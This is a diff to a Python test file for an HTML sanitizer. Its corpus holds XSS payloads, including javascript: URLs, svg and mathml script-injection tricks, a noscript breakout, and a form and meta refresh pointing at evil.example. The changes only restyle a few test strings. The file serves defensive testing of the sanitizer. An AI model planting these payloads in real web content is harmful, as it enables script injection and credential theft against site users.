@@ -42,10 +42,10 @@ CORPUS = {
     "javascript null in relative form": '<a href="java\x00script:alert(1)">x</a>',
     "iframe": '<iframe src="https://evil.example/"></iframe>',
     "object embed": '<object data="x.swf"></object><embed src="x.swf">',
-    "form": '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
+    "form": '<form action="https://evil.example/"><input name="pw"><button>Go</button></form>',
     "svg script": "<svg><script>alert(1)</script></svg>",
     "svg onload": '<svg onload="alert(1)"><a xlink:href="javascript:alert(1)">x</a></svg>',
-    "svg animate": '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x',
+    "svg animate": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x",
     "mathml mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
     "noscript breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
@@ -127,7 +127,8 @@ def test_mastodon_classes_survive_and_others_are_dropped() -> None:
 
 
 def test_allowed_markup_survives() -> None:
-    kept = '<p>a <strong>b</strong> <em>c</em> <a href="mailto:x@y.example">m</a></p><ul><li>i</li></ul>'
+    kept = '<p>a <strong>b</strong> <em>c</em> <a href="mailto:x@y.example">m</a></p>'
+    kept += "<ul><li>i</li></ul>"
     output = clean_html(kept)
     for fragment in ("<p>", "<strong>b</strong>", "<em>c</em>", "<ul><li>i</li></ul>",
                      'href="mailto:x@y.example"'):  # fmt: skip
